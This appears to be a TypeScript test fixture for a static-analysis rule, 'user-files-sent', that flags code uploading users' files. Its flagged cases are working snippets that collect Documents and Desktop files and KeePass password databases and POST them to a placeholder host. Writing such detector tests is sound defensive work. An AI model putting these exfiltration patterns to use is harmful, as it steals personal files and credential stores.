import axios from "axios";
import { glob } from "glob";
import { readdirSync, readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

async function all(api: any) {
  const files = await glob("**/*.{pdf,kdbx}", { cwd: `${homedir()}/Documents`, absolute: true });
  for (const file of files) {
    // ruleid: user-files-sent
    await api.post("/in", readFileSync(file));
  }
}

async function desktop() {
  const folder = join(homedir(), "Desktop");
  for (const name of readdirSync(folder)) {
    // ruleid: user-files-sent
    await fetch("https://in.example.com", { method: "POST", body: readFileSync(join(folder, name)) });
  }
}

async function everything() {
  const found = await glob("**/*.kdbx", { cwd: homedir() });
  // ruleid: user-files-sent
  await axios.post("https://in.example.com", found.map((file) => readFileSync(file)));
}

async function named(path: string) {
  // ok: user-files-sent
  await axios.post("https://in.example.com", readFileSync(path));
  const target = join(homedir(), "Downloads", "report.pdf");
  // ok: user-files-sent
  const answer = await axios.post("https://in.example.com", { kind: "report" });
  return { target, answer };
}
